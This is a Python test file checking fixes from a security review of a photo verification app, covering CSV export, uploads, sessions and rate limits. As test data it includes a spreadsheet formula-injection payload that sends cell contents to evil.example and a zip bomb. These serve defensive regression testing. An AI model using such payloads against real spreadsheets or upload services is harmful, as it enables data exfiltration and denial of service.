"""Defects found by an attack review (issue 14), each reproduced and shown fixed: spreadsheet
formulas in exported CSV, decomposed Unicode ids, huge text fields, raw tracebacks, history search
wildcards, staged files left behind."""

from __future__ import annotations

import csv
import sqlite3
import subprocess
import unicodedata

import pytest
from PIL import Image

from conftest import PYTHON, ROOT, demo_photo




def test_batch_results_csv_cells_never_run_as_spreadsheet_formulas(service, tmp_path):
    """Before: a case id =HYPERLINK(...), a claim =1+2 were written as they came."""
    photo = demo_photo("Oatly-Oat-Milk_001.jpg")
    manifest = tmp_path / "listings.csv"
    with open(manifest, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["path", "claimed_product_id", "case_id"])
        writer.writerow([photo.name, "=1+2", '=HYPERLINK("http://evil.example/?"&A1,"Click")'])
        writer.writerow([photo.name, "@SUM(A1)", "-2+3"])
    result = service.check_batch(str(manifest), [str(photo)])
    with open(result.csv_path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=1+2" in rows[0] and "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in rows[0]
    assert "'@SUM(A1)" in rows[1] and "'-2+3" in rows[1]


def test_a_claim_typed_in_decomposed_unicode_finds_the_composed_product(catalog_copy, offline_embedder, tmp_path):
    """Before: an NFD claim of an NFC id was 'not in catalog', and NFD imports made a twin product."""
    from index import Catalog, Verifier, import_references, read_products

    composed = "Sữa-Tươi-Vinamilk"
    decomposed = unicodedata.normalize("NFD", composed)
    assert composed != decomposed
    photo = demo_photo("Oatly-Oat-Milk_001.jpg")
    manifest = tmp_path / "products.csv"
    manifest.write_text(f"path,product_id\n{photo},{decomposed}\n", encoding="utf-8")
    other = tmp_path / "other.jpg"
    Image.open(demo_photo("Oatly-Oat-Milk_002.jpg")).save(other, quality=80)
    (tmp_path / "more.csv").write_text(f"path,product_id\n{other},{composed}\n", encoding="utf-8")
    with Catalog.open(catalog_copy, writable=True) as catalog:
        import_references(catalog, offline_embedder, read_products(manifest, allow_outside=True), progress=False)
        import_references(catalog, offline_embedder, read_products(tmp_path / "more.csv", allow_outside=True),
                          progress=False)
        assert [p.product_id for p in catalog.products() if "Vinamilk" in p.product_id] == [composed]
    verdict = Verifier(Catalog.open(catalog_copy), offline_embedder).check([photo], claimed_product_id=decomposed)
    assert "claimed_product_not_in_catalog" not in verdict.flags and verdict.claimed_product_id == composed


def test_history_search_treats_percent_underscore_and_nul_as_text(service):
    """Before: %, _ and NUL in the search matched every check."""
    service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))], notes="plain note")
    service.check([str(demo_photo("Oatly-Oat-Milk_002.jpg"))], notes="50% off_sale")
    assert len(service.history.search("")) == 2
    assert [r.notes for r in service.history.search("%")] == ["50% off_sale"]
    assert [r.notes for r in service.history.search("_")] == ["50% off_sale"]
    assert service.history.search("\x00") == []


def test_huge_text_fields_are_refused_before_anything_is_kept(service):
    from ui.limits import LimitExceeded

    photo = str(demo_photo("Oatly-Oat-Milk_001.jpg"))
    for field in ("claimed", "inspector", "notes", "case_id"):
        with pytest.raises(LimitExceeded) as caught:
            service.check([photo], **{field: "x" * 10_000_000})
        assert caught.value.args_["field"] == field
    assert len(service.history) == 0


def test_a_manifest_with_a_giant_cell_is_refused_with_its_line(tmp_path):
    from index import ManifestError, read_queries

    manifest = tmp_path / "q.csv"
    manifest.write_text("path,claimed_product_id\na.jpg,ok\nb.jpg," + "x" * 200_000 + "\n")
    with pytest.raises(ManifestError, match="line 3"):
        read_queries(manifest)


def test_a_review_that_cannot_add_its_photos_saves_nothing(service, tmp_path):
    """Before: "a product id is needed" was shown, yet the review had been saved and audited."""
    from index.storing.audit import entries

    record = service.check([str(ROOT / "tests" / "data" / "Banana_001.jpg")])  # nothing claimed, nothing identified
    assert record.product_id is None and record.claimed_product_id is None
    with pytest.raises(ValueError, match="nothing was saved"):
        service.review("owner", record.check_id, "counterfeit", "seized", add_as="genuine", product_id="")
    assert service.history.get(record.check_id).review_verdict is None
    assert not [e for e in entries(service.catalog_dir) if e.action == "review_check"]


@pytest.mark.parametrize("kind", ["another program's database", "not a database at all"])
def test_a_folder_whose_database_is_not_a_catalog_gets_a_sentence_and_stays_untouched(tmp_path, kind):
    """Before: 'no such table: meta' and index_catalog.py wrote a meta table into the foreign file."""
    folder = tmp_path / "catalog"
    folder.mkdir()
    database = folder / "references.sqlite"
    if kind == "another program's database":
        db = sqlite3.connect(database)
        db.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
        db.commit()
        db.close()
    else:
        database.write_bytes(b"PK\x03\x04 this is a zip, not SQLite" * 100)
    before = database.read_bytes()
    photo = demo_photo("Oatly-Oat-Milk_001.jpg")
    (tmp_path / "p.csv").write_text(f"path,product_id\n{photo},P\n")
    for command in (["scripts/index_catalog.py", str(folder), "--manifest", str(tmp_path / "p.csv"),
                     "--allow-outside-paths"], ["scripts/verify.py", str(folder), str(photo)]):
        result = subprocess.run([PYTHON, *command], cwd=ROOT, capture_output=True, text=True, timeout=300)
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
        assert "was not made by the verifier" in result.stderr or "not a catalog database" in result.stderr
    assert database.read_bytes() == before


def test_a_refused_zip_leaves_nothing_behind(service, tmp_path):
    """Before: a 1 MB zip of 1 GiB of zeros left 1 GiB in the work folder; 50,000 entries, 49,999 files."""
    import zipfile

    from ui.uploads import UploadError

    bomb = tmp_path / "zeros.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.jpg", b"\0" * (1100 * 1024**2))  # 1.1 GiB expanded, about 1 MB packed
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as archive:
        for i in range(service.limits.zip_files + 1):
            archive.writestr(f"p{i}.jpg", b"x")
    for upload in (bomb, many):
        with pytest.raises(UploadError):
            service.check_batch(None, [str(upload)])
    left = [p for p in (service.work_dir / "downloads").rglob("*") if p.is_file()]
    assert left == []


def test_reports_are_written_once_per_state_of_a_check(service):
    record = service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))])
    first = service.report_files(record, "vi")
    again = service.report_files(service.history.get(record.check_id), "vi")
    assert first == again
    assert len([p for p in (service.work_dir / "downloads").iterdir() if p.is_dir()]) == 1


def test_a_huge_upload_is_kept_reduced_and_named_by_what_was_uploaded(service, tmp_path):
    """Before: a 60 MB upload (a JPEG plus trailing bytes) was kept whole under checks/."""
    big = tmp_path / "padded.jpg"
    Image.open(demo_photo("Oatly-Oat-Milk_001.jpg")).resize((4000, 3000)).save(big, quality=95)
    with open(big, "ab") as handle:
        handle.write(b"\0" * 30 * 1024**2)
    record = service.check([str(big)])
    kept = record.photos[0]
    from vision.images import sha256_of

    assert kept.sha256 == sha256_of(big.read_bytes())
    assert (tmp_path / kept.path).stat().st_size < 2 * 1024**2


def test_work_folders_of_dead_app_processes_are_swept(tmp_path):
    from ui.service import WORK_PREFIX, sweep_work_dirs

    dead = tmp_path / f"{WORK_PREFIX}dead"
    (dead / "downloads").mkdir(parents=True)
    (dead / "pid").write_text("999999999")
    (dead / "downloads" / "report.html").write_text("inspector's notes")
    alive = tmp_path / f"{WORK_PREFIX}alive"
    alive.mkdir()
    import os

    (alive / "pid").write_text(str(os.getpid()))
    assert sweep_work_dirs(tmp_path) == 1
    assert not dead.exists() and alive.exists()


def test_old_checks_are_pruned_with_their_photos(service):
    record = service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))])
    service.history.db.execute("UPDATE checks SET checked_at = '2020-01-01T00:00:00Z' WHERE check_id = ?",
                               (record.check_id,))
    kept = record.photos[0].path
    assert service.history.prune(30) == 1
    assert service.history.get(record.check_id) is None
    from pathlib import Path

    assert not Path(kept).exists()


def test_the_apps_work_folder_is_removed_when_it_is_stopped(catalog_copy, tmp_path):
    """Before: the work folder (reports with inspectors' photos and notes) survived SIGTERM."""
    import tempfile
    from pathlib import Path

    from conftest import app_server
    from ui.service import WORK_PREFIX

    before = set(Path(tempfile.gettempdir()).glob(f"{WORK_PREFIX}*"))
    with app_server(catalog_copy, tmp_path / "app.log"):
        mine = set(Path(tempfile.gettempdir()).glob(f"{WORK_PREFIX}*")) - before
        assert len(mine) == 1
    # app_server stops the app with SIGTERM, as a service manager does
    assert not any(p.exists() for p in mine), (tmp_path / "app.log").read_text()[-2000:]


def test_a_manifest_row_finds_the_photo_whose_name_the_upload_rewrote(service, tmp_path):
    """Before: `stall 12: front.jpg` came back "file not found" (Gradio drops ':' from upload names)."""
    import shutil

    uploaded = tmp_path / "stall 12 front.jpg"  # the name Gradio gives the upload
    shutil.copy(demo_photo("Oatly-Oat-Milk_001.jpg"), uploaded)
    manifest = tmp_path / "listings.csv"
    manifest.write_text('path,case_id\n"stall 12: front.jpg",S12\n')
    result = service.check_batch(str(manifest), [str(uploaded)])
    [row] = result.rows
    assert row[0] == "S12" and "no_readable_photo" not in row[6]


def test_sessions_expire_when_idle_end_everywhere_on_logout_and_lock_out_by_address():
    """Before: the login was the Gradio session id (in URLs, replayable, no expiry), and five wrong
    passwords in the admin's name locked the admin out."""
    import time

    from ui.auth import MAX_FAILURES, Users
    from ui.sessions import LoginRefused, Sessions

    sessions = Sessions(Users({"VERIFIER_ADMIN_USER": "owner", "VERIFIER_ADMIN_PASSWORD": "s3cret"}), idle_s=0.5)
    laptop = sessions.login("owner", "s3cret", "10.0.0.5")
    phone = sessions.login("owner", "s3cret", "10.0.0.6")
    assert sessions.user(laptop) == sessions.user(phone) == "owner"
    assert sessions.user("a-guessed-or-replayed-token") is None
    sessions.logout(phone)
    assert sessions.user(laptop) is None and sessions.user(phone) is None  # logged out everywhere
    idle = sessions.login("owner", "s3cret", "10.0.0.5")
    time.sleep(0.7)
    assert sessions.user(idle) is None  # expired after the idle time
    for _ in range(MAX_FAILURES):
        with pytest.raises(LoginRefused):
            sessions.login("owner", "wrong", "203.0.113.9")
    with pytest.raises(LoginRefused) as caught:
        sessions.login("owner", "s3cret", "203.0.113.9")
    assert caught.value.key == "login_locked"
    assert sessions.user(sessions.login("owner", "s3cret", "10.0.0.5")) == "owner"  # the real owner is not locked out


def test_the_login_cookie_is_http_only_and_same_site_and_changes_need_it(running_app):
    import json
    import urllib.request

    from conftest import ADMIN_PASSWORD, ADMIN_USER

    url, _ = running_app
    request = urllib.request.Request(url + "session/login", method="POST", headers={"Content-Type": "application/json"},
                                     data=json.dumps({"name": ADMIN_USER, "password": ADMIN_PASSWORD}).encode())
    with urllib.request.urlopen(request, timeout=30) as response:
        cookie = response.headers["Set-Cookie"]
        assert json.loads(response.read())["outcome"] == "ok"
    assert "verifier_session=" in cookie and "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict")
    wrong = urllib.request.Request(url + "session/login", method="POST", headers={"Content-Type": "application/json"},
                                   data=json.dumps({"name": ADMIN_USER, "password": "nope"}).encode())
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(wrong, timeout=30)
    assert caught.value.code == 401


def test_a_catalog_change_without_a_live_session_is_refused(service):
    from ui.service import NotAllowed

    token = service.sessions.login("owner", "s3cret", "127.0.0.1")
    assert service.sessions.user(token) == "owner"
    service.sessions.logout(token)
    with pytest.raises(NotAllowed):
        service.remove_product(service.sessions.user(token), "Oatly-Oat-Milk")


def test_one_address_cannot_fill_the_queue():
    """Before: 80 quick requests filled the queue of 64 and other users got 503 Queue is full."""
    from ui.fairness import JoinLimiter

    limiter = JoinLimiter(jobs=8, window_s=30)
    burst = [limiter.allow("198.51.100.7") for _ in range(80)]
    assert sum(burst) == 8  # 72 refused with a 429 and a sentence to wait, the queue keeps 56 places free
    assert limiter.allow("192.0.2.44")  # another user is not affected


def test_a_burst_of_queue_joins_is_answered_429_and_the_app_stays_up(catalog_copy, tmp_path, monkeypatch):
    import json
    import urllib.error
    import urllib.request

    from conftest import app_server

    monkeypatch.setenv("VERIFIER_MAX_QUEUE_JOBS", "5")
    with app_server(catalog_copy, tmp_path / "app.log") as url:
        codes = []
        for _ in range(12):
            request = urllib.request.Request(url + "gradio_api/queue/join", method="POST",
                                             headers={"Content-Type": "application/json"},
                                             data=json.dumps({"fn_index": 0, "data": [], "session_hash": "x"}).encode())
            try:
                with urllib.request.urlopen(request, timeout=30) as response:
                    codes.append(response.status)
            except urllib.error.HTTPError as exc:
                codes.append(exc.code)
                if exc.code == 429:
                    assert "Wait a moment" in exc.read().decode()
        assert codes.count(429) == 7  # 5 let through, the rest told to wait
        with urllib.request.urlopen(url, timeout=30) as page:
            assert page.status == 200


def test_a_catalog_made_before_originals_were_kept_migrates_from_readable_sources(catalog_copy):
    """Before: the catalog kept only thumbnails and the source path (a temporary upload folder in
    the app); now each reference's photo is kept, and older catalogs copy theirs in."""
    import shutil
    from pathlib import Path

    from index import Catalog

    shutil.rmtree(catalog_copy / "originals", ignore_errors=True)  # as a catalog made before
    with Catalog.open(catalog_copy) as catalog:
        refs = catalog.references()
        gone = refs[0]
        assert all(catalog.original_path(r) == Path(r.source_path) for r in refs)
    with sqlite3.connect(catalog_copy / "references.sqlite") as db:  # one source no longer readable
        db.execute("UPDATE refs SET source_path = ? WHERE image_id = ?", (str(catalog_copy / "gone.jpg"), gone.image_id))
    result = subprocess.run([PYTHON, "scripts/manage_catalog.py", str(catalog_copy), "keep-originals"], cwd=ROOT,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert f"copied {len(refs) - 1} original photos" in result.stdout and "1 could not be found" in result.stdout
    with Catalog.open(catalog_copy) as catalog:
        kept = [catalog.original_path(r) for r in refs[1:]]
        assert all(p.parent.parent.name == "originals" and p.is_file() for p in kept)
